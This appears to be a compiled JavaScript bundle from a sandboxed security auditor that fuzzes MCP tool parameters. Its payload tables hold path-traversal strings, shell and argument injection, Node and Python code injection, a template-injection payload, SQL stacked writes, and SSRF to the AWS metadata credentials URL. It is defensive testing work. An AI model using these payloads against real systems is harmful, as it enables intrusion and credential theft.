export const id = 651;
export const ids = [651];
export const modules = {

/***/ 50273:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   U: () => (/* binding */ hintKind),
/* harmony export */   cL: () => (/* binding */ singular),
/* harmony export */   yM: () => (/* binding */ splitWords)
/* harmony export */ });
// Key-name hints: what a property's name says about the value it holds (`url`, `repoPath`, `createdAt`,
// `dryRun`). One table for both sides of a call: the argument synthesizer invents a value of that kind for
// a tool's input (probe/synthesize/key-hints.ts), and the sink fills the fields of an API's reply the way
// the client will read them (sandbox/replies/).
const HINT_WORDS = new Map();
const addHints = (kind, words) => {
    for (const word of words.split(' '))
        HINT_WORDS.set(word, kind);
};
addHints('url', 'url uri link href endpoint website webpage homepage');
addHints('path', 'path filepath file source destination src dest');
addHints('filename', 'filename');
addHints('dir', 'dir directory folder cwd workdir workspace root repopath repodir rootpath dirpath folderpath basepath');
addHints('email', 'email mail');
addHints('host', 'host hostname domain');
addHints('ipv4', 'ip ipv4 ipaddress');
addHints('ipv6', 'ipv6');
addHints('port', 'port');
addHints('text', 'query search text content body message note name title prompt description comment input q keyword term subject summary observation question topic');
addHints('id', 'id');
addHints('uuid', 'uuid guid');
addHints('lang', 'lang language locale');
addHints('count', 'count limit page size max top num number amount index depth');
addHints('timezone', 'timezone tz');
addHints('time', 'time');
addHints('date', 'date day');
addHints('datetime', 'datetime timestamp');
addHints('owner', 'owner user username author org organization login');
addHints('repo', 'repo repository project');
addHints('branch', 'branch ref');
addHints('command', 'command cmd');
addHints('safe-switch', 'dryrun dry preview simulate');
addHints('pid', 'pid ppid pgid pgrp processid');
function splitWords(name) {
    return name
        .replace(/([a-z0-9])([A-Z])/g, '$1 $2')
        .toLowerCase()
        .split(/[^a-z0-9]+/)
        .filter((word) => word.length > 0);
}
function singular(word) {
    return word.length > 3 && word.endsWith('s') && !word.endsWith('ss') ? word.slice(0, -1) : word;
}
function hintKind(name) {
    if (name === undefined)
        return undefined;
    const words = splitWords(name);
    const candidates = [words.join(''), words[words.length - 1], words[0], ...words];
    for (const candidate of candidates) {
        if (candidate === undefined)
            continue;
        const kind = HINT_WORDS.get(candidate) ?? HINT_WORDS.get(singular(candidate));
        if (kind !== undefined)
            return kind;
    }
    return undefined;
}


/***/ }),

/***/ 62539:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   C: () => (/* binding */ sinkIPv4For),
/* harmony export */   e: () => (/* binding */ sinkIPv6For)
/* harmony export */ });
// Inside the network sandbox the DNS sink answers every name with an address derived from the name,
// so the profile can tell which looked-up name a later connect() was aimed at without talking to the
// sink. Addresses come from the documentation ranges (RFC 5737 / RFC 3849): they are never routable
// outside, and inside the namespace every address is local anyway.
function fnv1a(text) {
    let hash = 0x811c9dc5;
    for (const byte of Buffer.from(text.toLowerCase(), 'utf8')) {
        hash ^= byte;
        hash = Math.imul(hash, 0x01000193) >>> 0;
    }
    return hash;
}
function sinkIPv4For(name) {
    return `198.51.100.${1 + (fnv1a(name) % 254)}`;
}
function sinkIPv6For(name) {
    return `2001:db8:5eed::${(1 + (fnv1a(name) % 0xfffe)).toString(16)}`;
}


/***/ }),

/***/ 34336:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   L: () => (/* binding */ DEFAULT_ATTACK_BUDGET),
/* harmony export */   P: () => (/* binding */ HUGE_SURFACE_ATTACK_BUDGET)
/* harmony export */ });
const DEFAULT_ATTACK_BUDGET = { perParameter: 8, perTool: 24, perAudit: 240, callTimeoutMs: 5_000 };
/** Above the session's huge-surface threshold: the strongest attack or two per tool. */
const HUGE_SURFACE_ATTACK_BUDGET = { perParameter: 2, perTool: 2, perAudit: 100, callTimeoutMs: 5_000 };


/***/ }),

/***/ 27472:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   AP: () => (/* binding */ attackOf),
/* harmony export */   _j: () => (/* binding */ candidatesFor),
/* harmony export */   lA: () => (/* binding */ fits),
/* harmony export */   xE: () => (/* binding */ markerProgram),
/* harmony export */   yp: () => (/* binding */ METADATA_URL),
/* harmony export */   zm: () => (/* binding */ probeHost)
/* harmony export */ });
/* unused harmony exports MARKER_PROGRAM_DIR, PROBE_DOMAIN */
/* harmony import */ var node_path__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(76760);
/* harmony import */ var node_path__WEBPACK_IMPORTED_MODULE_0___default = /*#__PURE__*/__webpack_require__.n(node_path__WEBPACK_IMPORTED_MODULE_0__);
/* harmony import */ var _sandbox_canary_cloud_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(59791);


const MARKER_PROGRAM_DIR = '/tmp';
/** The instance role's credentials: the canary cloud the sink plays answers with this run's canaries. */
const METADATA_URL = `http://169.254.169.254/latest/meta-data/iam/security-credentials/${_sandbox_canary_cloud_js__WEBPACK_IMPORTED_MODULE_1__/* .AWS_ROLE */ .fm}`;
const PROBE_DOMAIN = 'invalid';
const CLIMBS = 12;
const markerProgram = (marker) => `${MARKER_PROGRAM_DIR}/${marker}`;
const probeHost = (marker) => `${marker}.${PROBE_DOMAIN}`;
const candidate = (cls, technique, role, make) => ({ class: cls, technique, role, make });
const valueOnly = (value) => (marker) => ({ value: value(marker) });
function pathCandidates(context, use) {
    const { outside } = context;
    const up = '../'.repeat(CLIMBS);
    const aim = (dir, existing) => (marker) => (use.writes ? node_path__WEBPACK_IMPORTED_MODULE_0__.posix.join(dir, `${marker}.txt`) : existing);
    const home = aim(outside.home, outside.credential);
    const relativeTo = (root, target) => node_path__WEBPACK_IMPORTED_MODULE_0__.posix.relative(root, target);
    const root = outside.siblings[0]?.root ?? outside.links[0]?.root;
    const made = [candidate('path', 'climb', 'path', (marker) => ({ value: `${up}${home(marker).slice(1)}`, target: home(marker) }))];
    if (root !== undefined)
        made.push(candidate('path', 'climb-from-root', 'path', (marker) => ({ value: `${root}/${up}${home(marker).slice(1)}`, target: home(marker) })));
    for (const sibling of outside.siblings.slice(0, 2)) {
        const target = aim(sibling.dir, sibling.file);
        made.push(candidate('path', 'sibling', 'path', (marker) => ({
            value: use.absolute ? target(marker) : relativeTo(sibling.root, target(marker)),
            target: target(marker)
        })));
    }
    for (const link of outside.links.slice(0, 2)) {
        const inLink = (marker) => node_path__WEBPACK_IMPORTED_MODULE_0__.posix.join(link.root, link.name, use.writes ? `${marker}.txt` : node_path__WEBPACK_IMPORTED_MODULE_0__.posix.basename(link.file));
        const target = aim(link.pointsTo, link.file);
        made.push(candidate('path', 'symlink', 'path', (marker) => ({
            value: use.absolute ? inLink(marker) : relativeTo(link.root, inLink(marker)),
            target: target(marker)
        })));
    }
    for (const link of use.writes ? [] : (outside.fileLinks ?? []).slice(0, 2)) {
        const inRoot = node_path__WEBPACK_IMPORTED_MODULE_0__.posix.join(link.root, link.name);
        made.push(candidate('path', 'symlink-file', 'path', () => ({ value: use.absolute ? inRoot : link.name, target: link.pointsTo })));
    }
    made.push(candidate('path', 'absolute', 'path', (marker) => ({ value: home(marker), target: home(marker) })), candidate('path', 'encoded', 'path', (marker) => ({
        value: `${up}${home(marker).slice(1)}`.replace(/\//g, '%2f').replace(/\./g, '%2e'),
        target: home(marker)
    })), candidate('path', 'strip-bypass', 'path', (marker) => ({ value: `${'....//'.repeat(CLIMBS)}${home(marker).slice(1)}`, target: home(marker) })), candidate('path', 'backslash', 'path', (marker) => ({
        value: `${'..\\'.repeat(CLIMBS)}${home(marker).slice(1).replace(/\//g, '\\')}`,
        target: home(marker)
    })));
    return made;
}
const ARGV = [
    ['option-output', (marker) => `--output=${markerProgram(marker)}`],
    ['option-upload-pack', (marker) => `--upload-pack=${markerProgram(marker)}`],
    ['option-server', (marker) => `--server=https://${probeHost(marker)}:6443`],
    ['option-exec', (marker) => `--exec=${markerProgram(marker)}`],
    ['option-short-output', (marker) => `-o${markerProgram(marker)}`]
];
const SHELL = [
    ['substitution', (marker) => `$(${markerProgram(marker)})`],
    ['semicolon', (marker) => `;${markerProgram(marker)};`],
    ['single-quote-break', (marker) => `';${markerProgram(marker)};'`],
    ['double-quote-break', (marker) => `";${markerProgram(marker)};"`],
    ['backtick', (marker) => `\`${markerProgram(marker)}\``],
    ['newline', (marker) => `\n${markerProgram(marker)}\n`],
    ['pipe', (marker) => `|${markerProgram(marker)}`],
    ['and', (marker) => `&&${markerProgram(marker)}`]
];
const NODE = [
    ['node-builtin', (marker) => `process.getBuiltinModule('child_process').execFileSync('${markerProgram(marker)}')`],
    ['node-require', (marker) => `require('child_process').execFileSync('${markerProgram(marker)}')`],
    // caught: a rejection nobody handles would end the server, and the attacks after it with it
    ['node-import', (marker) => `import('child_process').then((c) => c.execFileSync('${markerProgram(marker)}')).catch(() => 0)`],
    [
        'node-constructor',
        (marker) => `this.constructor.constructor('return process')().getBuiltinModule('child_process').execFileSync('${markerProgram(marker)}')`
    ],
    ['node-string-break', (marker) => `'+process.getBuiltinModule('child_process').execFileSync('${markerProgram(marker)}')+'`],
    ['node-template-break', (marker) => `\${process.getBuiltinModule('child_process').execFileSync('${markerProgram(marker)}')}`]
];
const PYTHON = [
    ['python-os-system', (marker) => `__import__('os').system('${markerProgram(marker)}')`],
    ['python-open', (marker) => `open('${markerProgram(marker)}', 'w')`],
    ['python-string-break', (marker) => `'+str(__import__('os').system('${markerProgram(marker)}'))+'`],
    ['python-template', (marker) => `{{ cycler.__init__.__globals__.os.system('${markerProgram(marker)}') }}`],
    ['python-subprocess', (marker) => `__import__('subprocess').run(['${markerProgram(marker)}'])`]
];
function codeCandidates(language) {
    const of = (list) => list.map(([technique, value]) => candidate('code', technique, 'code', valueOnly(value)));
    if (language === 'node')
        return of(NODE);
    if (language === 'python')
        return of(PYTHON);
    // Unknown: the strongest of each language, alternately.
    const node = of(NODE);
    const python = of(PYTHON);
    return node.flatMap((entry, at) => [entry, ...(python[at] ? [python[at]] : [])]);
}
function urlCandidates(context) {
    return [
        candidate('url', 'metadata', 'url', valueOnly(() => METADATA_URL)),
        candidate('url', 'loopback', 'url', valueOnly((marker) => `http://127.0.0.1:${context.loopbackPort}/${marker}`)),
        candidate('url', 'file', 'url', () => ({ value: `file://${context.outside.credential}`, target: context.outside.credential })),
        candidate('url', 'probe-host', 'url', valueOnly((marker) => `http://${probeHost(marker)}/`))
    ];
}
const SQL = [
    ['stacked-write', (marker) => `SELECT 1; CREATE TABLE ${marker} (x int)`],
    ['commit-escape', (marker) => `COMMIT; CREATE TABLE ${marker} (x int)`]
];
const of = (cls, role, list) => list.map(([technique, value]) => candidate(cls, technique, role, valueOnly(value)));
/**
 * The values for one parameter of the roles given (strongest role first), in the order they are worth
 * trying: each role's own class first, then a shell or argv value or two where the parameter may also
 * reach a program. `strong`: named or described for its role; a weak free string gets the three values
 * most likely to show an injection.
 */
function candidatesFor(roles, strength, context, use) {
    const out = [];
    const add = (list) => {
        for (const entry of list)
            if (!out.some((known) => known.technique === entry.technique && known.class === entry.class))
                out.push(entry);
    };
    const shell = (count, role) => of('shell', role, SHELL.slice(0, count));
    const argv = (count, role) => of('argv', role, ARGV.slice(0, count));
    for (const role of roles) {
        if (role === 'path')
            add(withShellAt(pathCandidates(context, use), shell(1, 'path'), 7));
        else if (role === 'url')
            add([...urlCandidates(context), ...argv(2, 'url'), ...shell(1, 'url')]);
        else if (role === 'command')
            add(shell(SHELL.length, 'command'));
        else if (role === 'code')
            add([...codeCandidates(context.language), ...shell(1, 'code')]);
        else if (role === 'sql')
            add(of('sql', 'sql', SQL));
        else if (strength === 'strong')
            add(strongArgv(use.cluster === true));
        else
            add([...shell(2, 'argv'), ...argv(1, 'argv')]);
    }
    return out;
}
/**
 * A string named for a program's argv: an option and a shell value alternately, so a tool cut to two or
 * three attacks per parameter (the audit's budget, a slow tool) still tries both; `--server=` first where
 * the tool speaks of a cluster.
 */
function strongArgv(cluster) {
    const options = of('argv', 'argv', cluster ? [ARGV[2], ARGV[0], ARGV[1], ...ARGV.slice(3)].filter((entry) => entry !== undefined) : ARGV);
    const shells = of('shell', 'argv', SHELL.slice(0, 3));
    return options.flatMap((entry, at) => [entry, ...(shells[at] ? [shells[at]] : [])]);
}
/** `list` with `extra` put in at `at` (so a per-parameter cap keeps it). */
function withShellAt(list, extra, at) {
    return [...list.slice(0, at), ...extra, ...list.slice(at)];
}
/** A value the parameter's own schema refuses never reaches the code: not worth a call. */
function fits(value, constraints) {
    const length = [...value].length;
    if (constraints.minLength !== undefined && length < constraints.minLength)
        return false;
    if (constraints.maxLength !== undefined && length > constraints.maxLength)
        return false;
    if (constraints.pattern === undefined)
        return true;
    try {
        return new RegExp(constraints.pattern, 'u').test(value);
    }
    catch {
        return true;
    }
}
/** The attack as the call record keeps it. */
function attackOf(entry, parameter, marker) {
    const { value, target } = entry.make(marker);
    return { parameter, role: entry.role, class: entry.class, technique: entry.technique, marker, value, ...(target !== undefined ? { target } : {}) };
}


/***/ }),

/***/ 11794:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   j: () => (/* binding */ parameterRoles)
/* harmony export */ });
const words = (text) => text
    .replace(/([a-z0-9])([A-Z])/g, '$1 $2')
    .replace(/[^A-Za-z0-9]+/g, ' ')
    .toLowerCase()
    .trim();
const NAME_ROLES = [
    ['sql', /\b(sql|statement)\b/],
    ['code', /\b(code|expression|expr|eval|formula|template|snippet|function|fn|lambda|predicate|jq|jsonpath|xpath)\b/],
    ['command', /\b(command|commands|cmd|shell|program|executable|binary|interpreter)\b/],
    ['url', /\b(url|urls|uri|uris|link|href|endpoint|webhook|website|homepage|src url)\b/],
    [
        'path',
        /\b(path|paths|file|files|filename|filenames|filepath|dir|dirs|directory|directories|folder|cwd|workdir|workspace|destination|dest|source|src|root|output path|input path|location)\b/
    ],
    [
        'argv',
        /\b(revision|rev|ref|refs|commit|commits|commitish|branch|branches|tag|sha|hash|object|upstream|onto|remote|name|names|namespace|resource|resource type|kind|package|packages|pkg|module|image|container|pod|node|host|hostname|label|selector|pattern|glob|query|version|target|args|arguments|flags|options|pid|id|ids|service|context|chart|release|user|author|grep|since|until|format)\b/
    ]
];
const DESCRIPTION_ROLES = [
    ['sql', /\b(sql|select statement|sql query)\b/],
    ['code', /\b(javascript|python|js code|evaluated|jq filter|code to (run|execute)|\/\* code \*\/)/],
    ['command', /\b(shell command|command to (run|execute)|command line)\b/],
    ['url', /\b(url|uri|https?:|web address|link to)\b/],
    ['path', /\b(path|paths|directory|folder|filename|file name)\b/],
    ['argv', /\b(branch|commit|revision|ref|tag|git|kubectl|helm|docker|npm|pip|package|namespace|pod|container|cli|passed to)\b/]
];
/** Formats whose values a validator checks: nothing hostile passes them. */
const VALIDATED_FORMATS = new Set(['date', 'date-time', 'time', 'email', 'idn-email', 'uuid', 'ipv4', 'ipv6', 'hostname', 'idn-hostname', 'duration', 'regex']);
const URL_FORMATS = new Set(['uri', 'url', 'iri', 'uri-reference', 'iri-reference']);
/** The tool or the parameter says the path it takes stays inside something. */
const CONFINED = /\b(relative to|within (the )?(allowed|permitted)|inside (the|a|its|your)|in the \w+ (folder|directory|workspace|root)|from the \w+ (folder|directory)|allowed director|under the (workspace|root|project)|sandbox(ed)?\b|workspace root|project root|repository root)/i;
const isString = (schema) => schema.type === 'string' ||
    (Array.isArray(schema.type) && schema.type.includes('string')) ||
    (schema.type === undefined && [schema.anyOf, schema.oneOf].some((options) => Array.isArray(options) && options.some((option) => isString(option))));
const stringOption = (schema) => schema.type === undefined
    ? ([schema.anyOf, schema.oneOf].flat().find((option) => option && isString(option)) ?? schema)
    : schema;
const hasChoices = (schema) => Array.isArray(schema.enum) || schema.const !== undefined;
function constraintsOf(schema) {
    return {
        ...(typeof schema.pattern === 'string' ? { pattern: schema.pattern } : {}),
        ...(typeof schema.minLength === 'number' ? { minLength: schema.minLength } : {}),
        ...(typeof schema.maxLength === 'number' ? { maxLength: schema.maxLength } : {})
    };
}
/** The roles of one string (null: not attacked), strongest first. */
function rolesOf(name, schema, toolText, sinks) {
    const string = stringOption(schema);
    if (hasChoices(string) || hasChoices(schema))
        return null;
    const format = typeof string.format === 'string' ? string.format : undefined;
    if (format !== undefined && VALIDATED_FORMATS.has(format))
        return null;
    const description = words(typeof schema.description === 'string' ? schema.description.slice(0, 500) : '');
    const named = words(name);
    const roles = [];
    if (format !== undefined && URL_FORMATS.has(format))
        roles.push('url');
    for (const [role, pattern] of NAME_ROLES)
        if (pattern.test(named) && !roles.includes(role))
            roles.push(role);
    for (const [role, pattern] of DESCRIPTION_ROLES)
        if (pattern.test(description) && !roles.includes(role))
            roles.push(role);
    // A file the description names is a path, unless the value is a URL of one; a name that could be a
    // path is none when its description speaks of a revision.
    if (/\bfiles?\b/.test(description) && !roles.includes('url') && !roles.includes('path'))
        roles.push('path');
    if (/\b(commit|branch|tag|ref|revision|remote)\b/.test(description) && !/\b(file|path|directory|folder)\b/.test(description) && roles.includes('path'))
        roles.splice(roles.indexOf('path'), 1);
    // A query is SQL only where the tool speaks of a database.
    if (/\bquery\b/.test(named) && /\b(sql|database|postgres|mysql|sqlite|table)\b/.test(toolText) && !roles.includes('sql'))
        roles.unshift('sql');
    if (sinks.has('dynamic-code') && !roles.includes('code'))
        roles.push('code');
    // A name ending in key or id names a thing by its identifier (figma's fileKey, a fileId), which goes
    // into a URL or a command line: neither a path nor a URL itself, and named for a program's argv.
    const identifier = /\b(key|keys|id|ids)$/.test(named) && format === undefined;
    if (identifier)
        for (const role of ['path', 'url'])
            if (roles.includes(role))
                roles.splice(roles.indexOf(role), 1);
    const strength = roles.length > 0 || sinks.has('exec') || identifier ? 'strong' : 'weak';
    // Whatever else it is, a string may still reach a program's argv or a shell.
    if (!roles.includes('argv'))
        roles.push('argv');
    return { roles, strength };
}
/** Every attackable string of a tool's input: top-level ones first, then strings one level down. */
function parameterRoles(tool, sinks = new Set()) {
    const properties = (tool.inputSchema?.properties ?? {});
    const toolText = words(`${tool.name} ${tool.title ?? ''} ${(tool.description ?? '').slice(0, 1000)}`);
    const toolConfined = CONFINED.test(tool.description ?? '');
    const found = [];
    const nested = [];
    const add = (into, parameter, at, name, schema) => {
        const decided = rolesOf(name, schema, toolText, sinks);
        if (!decided)
            return;
        const description = typeof schema.description === 'string' ? schema.description : '';
        into.push({ parameter, at, ...decided, constraints: constraintsOf(stringOption(schema)), confined: toolConfined || CONFINED.test(description) });
    };
    for (const [name, schema] of Object.entries(properties)) {
        if (typeof schema !== 'object' || schema === null)
            continue;
        if (isString(schema))
            add(found, name, { keys: [name], array: false }, name, schema);
        else if (schema.type === 'array' && typeof schema.items === 'object' && schema.items !== null && isString(schema.items)) {
            const items = schema.items;
            add(nested, `${name}[]`, { keys: [name], array: true }, name, { ...items, description: schema.description ?? items.description });
        }
        else if (schema.type === 'object' && typeof schema.properties === 'object' && schema.properties !== null) {
            for (const [key, inner] of Object.entries(schema.properties).slice(0, 20)) {
                if (typeof inner === 'object' && inner !== null && isString(inner))
                    add(nested, `${name}.${key}`, { keys: [name, key], array: false }, key, inner);
            }
        }
    }
    return [...found, ...nested];
}


/***/ }),

/***/ 99948:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   BM: () => (/* binding */ sandboxedHttp),
/* harmony export */   Wv: () => (/* binding */ sandboxedStdio),
/* harmony export */   fv: () => (/* binding */ MAX_MESSAGE_BYTES)
/* harmony export */ });
/* unused harmony export plainStdio */
/* harmony import */ var _sandbox_launcher_process_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(564);
/* harmony import */ var _sandboxed_http_transport_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(27178);
/* harmony import */ var _sandboxed_stdio_transport_js__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(86735);



/** A message (tool result, page) larger than this is dropped; its call still counts, as oversized. */
const MAX_MESSAGE_BYTES = 8 * 1024 * 1024;
function stdioOptions(launcher, hooks) {
    return { launcher, maxMessageBytes: MAX_MESSAGE_BYTES, onOversized: ({ bytes }) => hooks.onOversized(bytes) };
}
/** MCP over the stdio of `launch`, started when the session starts (a server run without the sandbox). */
function plainStdio(launch, path) {
    return (hooks) => new SandboxedStdioTransport(stdioOptions(new LauncherProcess(launch, launcherEnvironment(path)), hooks));
}
/** MCP over the stdio of the sandbox launcher the audit started, its init config sent already. */
function sandboxedStdio(launcher) {
    return (hooks) => new _sandboxed_stdio_transport_js__WEBPACK_IMPORTED_MODULE_2__/* .SandboxedStdioTransport */ .z(stdioOptions(launcher, hooks));
}
/** A server started in the sandbox that speaks HTTP: reached through the init's relay (sandbox/http-relay.ts). */
function sandboxedHttp(launcher, http) {
    return (hooks) => new _sandboxed_http_transport_js__WEBPACK_IMPORTED_MODULE_1__/* .SandboxedHttpTransport */ .K7({ ...stdioOptions(launcher, hooks), ...http });
}


/***/ }),

/***/ 27178:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {


// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  WS: () => (/* binding */ RemoteHttpTransport),
  K7: () => (/* binding */ SandboxedHttpTransport),
  Pc: () => (/* binding */ defaultHttpUrl)
});

// UNUSED EXPORTS: HttpNotListeningError

// EXTERNAL MODULE: external "node:fs/promises"
var promises_ = __webpack_require__(51455);
// EXTERNAL MODULE: external "node:stream"
var external_node_stream_ = __webpack_require__(57075);
// EXTERNAL MODULE: external "node:http"
var external_node_http_ = __webpack_require__(37067);
;// CONCATENATED MODULE: ./src/probe/relay-fetch.ts


// A fetch for the MCP SDK's HTTP client transports that sends every request through the sandbox's relay
// (a unix socket) whatever the URL's host says: the server listens inside a network namespace the
// auditor is not in. Only the URL's path and query are used; the Host header keeps the URL's authority,
// which servers with DNS-rebinding protection check. Redirects are returned, not followed (the SDK
// decides). Each answer's body is capped: past `maxBodyBytes` it ends with an error.
const NULL_BODY_STATUSES = new Set([101, 204, 205, 304]);
function relayFetch(options) {
    return (input, init) => new Promise((resolve, reject) => {
        const url = new URL(input instanceof URL ? input.href : String(input));
        const headers = { host: url.host };
        new Headers(init?.headers).forEach((value, name) => {
            headers[name] = value;
        });
        const body = init?.body;
        if (body !== undefined && body !== null && typeof body !== 'string') {
            reject(new TypeError('relay fetch: only string bodies are supported'));
            return;
        }
        if (typeof body === 'string')
            headers['content-length'] = String(Buffer.byteLength(body));
        const signal = init?.signal ?? undefined;
        if (signal?.aborted) {
            reject(signal.reason instanceof Error ? signal.reason : new Error('aborted'));
            return;
        }
        const outgoing = (0,external_node_http_.request)({ socketPath: options.socketPath, method: init?.method ?? 'GET', path: url.pathname + url.search, headers, ...(signal ? { signal } : {}) }, (incoming) => {
            // The server chose the status and headers: one fetch's Response refuses (a status of 999, a header
            // value that is not a byte string) is this request's failure, never an exception in the auditor.
            const status = incoming.statusCode ?? 0;
            if (status < 200 || status > 599) {
                incoming.destroy();
                reject(new Error(`the server answered with HTTP status ${status}`));
                return;
            }
            const responseHeaders = new Headers();
            try {
                for (const [name, value] of Object.entries(incoming.headers)) {
                    if (value === undefined)
                        continue;
                    for (const one of Array.isArray(value) ? value : [value])
                        responseHeaders.append(name, one);
                }
            }
            catch (error) {
                incoming.destroy();
                reject(error instanceof Error ? error : new Error(String(error)));
                return;
            }
            let seen = 0;
            incoming.on('data', (chunk) => {
                seen += chunk.length;
                if (seen > options.maxBodyBytes) {
                    options.onOversized(seen);
                    incoming.destroy(new Error(`the answer exceeded ${options.maxBodyBytes} bytes and was dropped`));
                }
            });
            const stream = NULL_BODY_STATUSES.has(status) ? null : external_node_stream_.Readable.toWeb(incoming);
            if (stream === null)
                incoming.resume();
            resolve(new Response(stream, { status, headers: responseHeaders }));
        });
        outgoing.on('error', reject);
        outgoing.end(body);
    });
}
/**
 * The platform's fetch with each answer's body capped at `maxBodyBytes` (a remote server's answers are as
 * untrusted as a sandboxed one's): past it the body ends with an error.
 */
function cappedFetch(maxBodyBytes, onOversized) {
    return async (input, init) => {
        const response = await fetch(input, init);
        if (!response.body)
            return response;
        let seen = 0;
        const counted = response.body.pipeThrough(new TransformStream({
            transform(chunk, controller) {
                seen += chunk.byteLength;
                if (seen > maxBodyBytes) {
                    onOversized(seen);
                    controller.error(new Error(`the answer exceeded ${maxBodyBytes} bytes and was dropped`));
                    return;
                }
                controller.enqueue(chunk);
            }
        }));
        return new Response(counted, { status: response.status, statusText: response.statusText, headers: response.headers });
    };
}

// EXTERNAL MODULE: ./src/probe/sandboxed-stdio-transport.ts + 1 modules
var sandboxed_stdio_transport = __webpack_require__(86735);
;// CONCATENATED MODULE: ./src/probe/sandboxed-http-transport.ts




/**
 * The SDK client transport for `endpoint` at `url`, every request going through `fetch`. Loaded on first
 * use: the SDK's HTTP clients (and the OAuth schemas they bring) would cost every stdio audit's start.
 */
async function clientTransport(flavour, url, fetch) {
    const options = fetch ? { fetch } : {};
    if (flavour === 'sse') {
        const { SSEClientTransport } = await Promise.all(/* import() */[__webpack_require__.e(337), __webpack_require__.e(53)]).then(__webpack_require__.bind(__webpack_require__, 10053));
        return new SSEClientTransport(url, options);
    }
    const { StreamableHTTPClientTransport } = await Promise.all(/* import() */[__webpack_require__.e(337), __webpack_require__.e(491)]).then(__webpack_require__.bind(__webpack_require__, 83491));
    return new StreamableHTTPClientTransport(url, options);
}
/** A streamable HTTP session the server gave an id: ended with a DELETE when the client closes. */
function openSession(client) {
    return 'terminateSession' in client && client.sessionId ? client : null;
}
/** The default path when only the port is known: the SDK's examples and most servers use these. */
function defaultHttpUrl(flavour, host, port) {
    const authority = host.includes(':') ? `[${host}]:${port}` : `${host}:${port}`;
    return new URL(`http://${authority}/${flavour === 'sse' ? 'sse' : 'mcp'}`);
}
/** How often the init's status is read for its listener verdict while the server starts (the first request waits for it). */
const STATUS_POLL_MS = 10;
/** Where the init says the server listens: {host, port} from its `http-listening` line, or why not. */
async function readListening(statusPath) {
    let text;
    try {
        text = await (0,promises_.readFile)(statusPath, 'utf8');
    }
    catch {
        return null;
    }
    for (const line of text.split('\n')) {
        if (!line)
            continue;
        try {
            const entry = JSON.parse(line);
            if (entry.event === 'http-listening' && entry.message)
                return JSON.parse(entry.message);
            if (entry.event === 'http-not-listening')
                return { notListening: true };
            if (entry.event === 'error')
                return { error: entry.message ?? 'the sandbox failed' };
        }
        catch {
            // a line being written
        }
    }
    return null;
}
/** fetch's own message ("fetch failed") says nothing; its cause does (ECONNREFUSED, a certificate error). */
function describeFetchError(error) {
    if (!(error instanceof Error))
        return String(error);
    const cause = error.cause instanceof Error ? error.cause.message : null;
    return cause ? `${error.message}: ${cause}` : error.message;
}
class HttpNotListeningError extends Error {
    name = 'HttpNotListeningError';
}
class SandboxedHttpTransport {
    options;
    onclose;
    onerror;
    onmessage;
    process;
    client = null;
    processClosed = false;
    listenedAt = null;
    protocolVersion;
    constructor(options) {
        this.options = options;
        this.process = new sandboxed_stdio_transport/* SandboxedStdioTransport */.z(options);
        // Speaking HTTP, the server's stdout is its log, not MCP.
        this.process.onmessage = () => undefined;
        this.process.onerror = () => undefined;
        this.process.onclose = () => {
            this.processClosed = true;
            this.onclose?.();
        };
    }
    get stderr() {
        return this.process.stderr;
    }
    get pid() {
        return this.process.pid;
    }
    get exitCode() {
        return this.process.exitCode;
    }
    /** The URL the client spoke to, once the server listened. */
    get url() {
        return this.listenedAt;
    }
    setProtocolVersion = (version) => {
        this.protocolVersion = version;
        this.client?.setProtocolVersion?.(version);
    };
    async start() {
        await this.process.start();
        const deadline = Date.now() + this.options.listenTimeoutMs;
        const { endpoint } = this.options;
        for (;;) {
            if (this.processClosed)
                throw new Error('the server exited before it listened');
            const seen = await readListening(this.options.statusPath);
            if (seen && 'host' in seen) {
                this.listenedAt = endpoint.url ?? defaultHttpUrl(endpoint.flavour, seen.host, seen.port);
                break;
            }
            if (seen && 'error' in seen)
                throw new Error(seen.error);
            if ((seen && 'notListening' in seen) || Date.now() > deadline) {
                const where = endpoint.url ? `on ${endpoint.url.host}` : 'on any port';
                throw new HttpNotListeningError(`the server did not listen ${where} within ${Math.round(this.options.listenTimeoutMs / 1000)}s`);
            }
            await new Promise((resolve) => setTimeout(resolve, STATUS_POLL_MS));
        }
        const fetch = relayFetch({
            socketPath: this.options.relaySocket,
            maxBodyBytes: this.options.maxMessageBytes,
            onOversized: (bytes) => this.options.onOversized({ bytes, id: null })
        });
        const client = await clientTransport(endpoint.flavour, this.listenedAt, fetch);
        client.onmessage = (message) => this.onmessage?.(message);
        client.onerror = (error) => this.onerror?.(error);
        if (this.protocolVersion)
            client.setProtocolVersion?.(this.protocolVersion);
        this.client = client;
        await client.start();
    }
    send(message) {
        if (!this.client)
            return Promise.reject(new Error('not connected'));
        return this.client.send(message);
    }
    /**
     * MCP's HTTP shutdown: end the session (DELETE, for streamable HTTP), then end stdin as for stdio —
     * some servers also stop on that. The session stops the process tree afterwards.
     */
    endInput() {
        const session = this.client && openSession(this.client);
        if (session)
            void session.terminateSession().catch(() => undefined);
        this.process.endInput();
    }
    async close() {
        await this.client?.close().catch(() => undefined);
        await this.process.close();
    }
}
/**
 * A server reached by URL only (nothing started, nothing traced): the SDK's own transport with the same
 * surface as the sandboxed ones — no process, no stderr.
 */
class RemoteHttpTransport {
    endpoint;
    limits;
    onclose;
    onerror;
    onmessage;
    stderr = new external_node_stream_.PassThrough();
    pid = null;
    exitCode = null;
